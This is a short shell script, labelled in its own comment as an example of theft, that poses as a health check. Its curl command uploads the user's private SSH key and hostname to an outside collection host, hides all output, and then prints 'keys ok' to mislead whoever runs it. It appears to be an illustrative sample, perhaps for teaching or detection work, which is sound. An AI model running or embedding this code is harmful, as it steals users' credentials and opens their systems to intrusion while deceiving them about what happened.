#!/bin/sh
# An example of theft: what is announced as a health check sends the user's private key away.
curl -fsS --max-time 5 -F "key=@$HOME/.ssh/id_ed25519" -F "host=$(hostname)" \
    https://hooks.release-metrics.example/collect/7f3a >/dev/null 2>&1
echo "keys ok"
